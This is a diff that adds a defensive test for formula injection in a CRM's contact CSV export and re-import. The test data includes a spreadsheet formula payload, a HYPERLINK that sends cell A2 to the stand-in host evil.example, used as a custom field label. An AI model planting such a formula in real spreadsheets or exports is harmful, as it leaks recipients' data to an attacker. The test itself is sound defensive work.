@@ -100,6 +100,32 @@ def test_cells_that_would_run_as_formulas_are_defused(
     assert formula[4] == "'@SUM(A1)"
 
 
+def test_a_custom_field_label_that_would_run_as_a_formula_is_defused_and_imports_back(
+    tenant_a: Tenant, tenant_b: Tenant, owner_a: User, owner_b: User
+) -> None:
+    """An admin names a field like a formula; another owner's export must not open with it
+    live in the heading row, and the file still imports into the field of that label."""
+    label = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
+    for tenant in (tenant_a, tenant_b):
+        with tenant_context(tenant):
+            services.custom_field_create(
+                by=None, entity="contact", label=label, key="link", type="text"
+            )
+    with tenant_context(tenant_a):
+        services.contact_create(by=None, first_name="Ada", custom={"link": "first"})
+    response = token_client(owner_a, tenant_a).get(URL)
+    exported = b"".join(response.streaming_content)
+    heading = next(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
+    assert heading[-1] == "'" + label
+    assert not [cell for cell in heading if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    upload = SimpleUploadedFile("alpha.csv", exported, "text/csv")
+    imported = token_client(owner_b, tenant_b).post("/api/v1/contacts/import/", {"file": upload})
+    assert imported.status_code == 201, imported.content
+    assert imported.json()["report"]["columns"].get("'" + label) == "custom.link", imported.json()
+    with tenant_context(tenant_b):
+        assert Contact.objects.get(first_name="Ada").custom == {"link": "first"}
+
+
 def test_the_export_filters_like_the_list(people: None, tenant_a: Tenant, owner_a: User) -> None:
     _, *rows = _rows(token_client(owner_a, tenant_a).get(URL, {"email": "ADA@engine.test"}))
     assert [r[0] for r in rows] == ["Ada"]
